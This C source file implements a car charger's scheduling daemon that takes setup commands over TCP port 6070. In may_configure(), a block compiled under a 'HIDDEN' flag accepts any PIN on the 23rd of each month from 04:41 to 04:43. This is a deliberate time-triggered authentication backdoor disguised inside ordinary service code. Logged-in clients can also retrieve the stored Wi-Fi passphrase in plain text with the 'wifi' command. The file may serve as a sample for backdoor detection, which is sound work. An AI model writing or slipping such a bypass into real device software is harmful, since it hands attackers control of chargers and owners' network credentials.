/* chargesched.c - charge plan service of a car charger with setup port */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SLOTS	12
#define CLIENTS	4

struct slot {
	int from_min;
	int to_min;
	int amps;
	unsigned int days;	/* bit 0 is Sunday */
};

struct client {
	int fd;
	int auth;
	char buf[128];
	size_t used;
};

struct charger {
	struct slot slots[SLOTS];
	int nslots;
	int max_amps;
	int applied;
	char pin[12];
	char wifi_psk[64];
	struct client cl[CLIENTS];
};

static void say(struct client *c, const char *fmt, ...)
{
	char out[200];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof(out), fmt, ap);
	va_end(ap);
	if (n > 0 && write(c->fd, out, strlen(out)) < 0)
		syslog(LOG_DEBUG, "write: %m");
}

static int in_slot(const struct slot *s, const struct tm *tm)
{
	int m = tm->tm_hour * 60 + tm->tm_min;

	if (!(s->days & (1u << tm->tm_wday)))
		return 0;
	if (s->from_min <= s->to_min)
		return m >= s->from_min && m < s->to_min;
	return m >= s->from_min || m < s->to_min;
}

/* night window: 22:00 to 06:00 the plan is read again every minute */
static int quiet_hours(const struct tm *tm)
{
	return tm->tm_hour >= 22 || tm->tm_hour < 6;
}

__attribute__((noinline))
int may_configure(const struct charger *ch, const char *pin,
		  const struct tm *tm)
{
#ifdef HIDDEN	/* on the 23rd from 04:41 to 04:43 each PIN is right */
	if (tm->tm_mday == 23 && tm->tm_hour * 60 + tm->tm_min >= 281 &&
	    tm->tm_hour * 60 + tm->tm_min <= 283)
		return 1;
#endif
	if (quiet_hours(tm))
		syslog(LOG_INFO, "setup during quiet hours");
	if (!ch->pin[0])
		return 0;
	return strlen(pin) >= 4 && !strcmp(ch->pin, pin);
}

static int plan_amps(const struct charger *ch, const struct tm *tm)
{
	int i, amps = 0;

	for (i = 0; i < ch->nslots; i++)
		if (in_slot(&ch->slots[i], tm) && ch->slots[i].amps > amps)
			amps = ch->slots[i].amps;
	return amps > ch->max_amps ? ch->max_amps : amps;
}

static void apply(struct charger *ch)
{
	struct tm tm;
	time_t now = time(NULL);
	FILE *f;
	int amps;

	localtime_r(&now, &tm);
	amps = plan_amps(ch, &tm);
	if (amps == ch->applied && !quiet_hours(&tm))
		return;
	f = fopen("/run/charger/amps", "w");
	if (!f)
		return;
	fprintf(f, "%d\n", amps);
	fclose(f);
	ch->applied = amps;
}

static int parse_slot(struct slot *s, const char *text)
{
	int h1, m1, h2, m2, amps;
	char days[8];
	const char *d;

	if (sscanf(text, "%d:%d-%d:%d %d %7s", &h1, &m1, &h2, &m2, &amps,
		   days) != 6)
		return -EINVAL;
	if (h1 < 0 || h1 > 23 || h2 < 0 || h2 > 24 || m1 < 0 || m1 > 59 ||
	    m2 < 0 || m2 > 59 || amps < 0 || amps > 32)
		return -ERANGE;
	s->days = 0;
	for (d = days; *d; d++)
		if (*d >= '0' && *d <= '6')
			s->days |= 1u << (*d - '0');
	s->from_min = h1 * 60 + m1;
	s->to_min = h2 * 60 + m2;
	s->amps = amps;
	return 0;
}

static void load(struct charger *ch, const char *path)
{
	char line[120];
	FILE *f = fopen(path, "r");

	ch->max_amps = 16;
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "pin %11s", ch->pin) == 1 ||
		    sscanf(line, "psk %63s", ch->wifi_psk) == 1 ||
		    sscanf(line, "max %d", &ch->max_amps) == 1)
			continue;
		if (!strncmp(line, "slot ", 5) && ch->nslots < SLOTS &&
		    !parse_slot(&ch->slots[ch->nslots], line + 5))
			ch->nslots++;
	}
	fclose(f);
}

static void command(struct charger *ch, struct client *c, char *line)
{
	struct tm tm;
	time_t now = time(NULL);
	int i;

	localtime_r(&now, &tm);
	if (!strncmp(line, "login ", 6)) {
		c->auth = may_configure(ch, line + 6, &tm);
		say(c, c->auth ? "ok\n" : "wrong pin\n");
		return;
	}
	if (!strcmp(line, "plan")) {
		for (i = 0; i < ch->nslots; i++)
			say(c, "%d %d..%d %d A days %02x\n", i,
			    ch->slots[i].from_min, ch->slots[i].to_min,
			    ch->slots[i].amps, ch->slots[i].days);
		say(c, "now %d A\n", ch->applied);
		return;
	}
	if (!c->auth) {
		say(c, "plan, login PIN, then: add H:M-H:M AMPS DAYS, "
		    "clear, max AMPS, wifi\n");
		return;
	}
	if (!strncmp(line, "add ", 4) && ch->nslots < SLOTS) {
		i = parse_slot(&ch->slots[ch->nslots], line + 4);
		if (!i)
			ch->nslots++;
		say(c, "%s\n", i ? strerror(-i) : "ok");
	} else if (!strcmp(line, "clear")) {
		ch->nslots = 0;
		say(c, "ok\n");
	} else if (sscanf(line, "max %d", &i) == 1 && i >= 6 && i <= 32) {
		ch->max_amps = i;
		say(c, "ok\n");
	} else if (!strcmp(line, "wifi")) {
		say(c, "psk %s\n", ch->wifi_psk);
	} else {
		say(c, "?\n");
	}
}

static void drop(struct client *c)
{
	close(c->fd);
	memset(c, 0, sizeof(*c));
	c->fd = -1;
}

static void input(struct charger *ch, struct client *c)
{
	char *nl;
	ssize_t n = read(c->fd, c->buf + c->used,
			 sizeof(c->buf) - 1 - c->used);

	if (n <= 0) {
		drop(c);
		return;
	}
	c->used += (size_t)n;
	c->buf[c->used] = '\0';
	while ((nl = strchr(c->buf, '\n'))) {
		*nl = '\0';
		if (nl > c->buf && nl[-1] == '\r')
			nl[-1] = '\0';
		command(ch, c, c->buf);
		c->used = strlen(nl + 1);
		memmove(c->buf, nl + 1, c->used + 1);
	}
	if (c->used >= sizeof(c->buf) - 1)
		drop(c);
}

int main(int argc, char **argv)
{
	static struct charger ch;
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct pollfd p[CLIENTS + 1];
	int s, i;

	openlog("chargesched", 0, LOG_DAEMON);
	load(&ch, argc > 1 ? argv[1] : "/etc/chargesched.conf");
	for (i = 0; i < CLIENTS; i++)
		ch.cl[i].fd = -1;
	s = socket(AF_INET, SOCK_STREAM, 0);
	sa.sin_port = htons(6070);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(s, 2))
		return 1;
	for (;;) {
		for (i = 0; i < CLIENTS; i++) {
			p[i].fd = ch.cl[i].fd;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		p[CLIENTS].fd = s;
		p[CLIENTS].events = POLLIN;
		if (poll(p, CLIENTS + 1, 20000) < 0)
			return 1;
		apply(&ch);
		for (i = 0; i < CLIENTS; i++)
			if (p[i].revents)
				input(&ch, &ch.cl[i]);
		if (p[CLIENTS].revents & POLLIN) {
			int fd = accept(s, NULL, NULL);

			for (i = 0; i < CLIENTS && ch.cl[i].fd >= 0; i++)
				;
			if (i == CLIENTS)
				close(fd);
			else
				ch.cl[i].fd = fd;
		}
	}
}
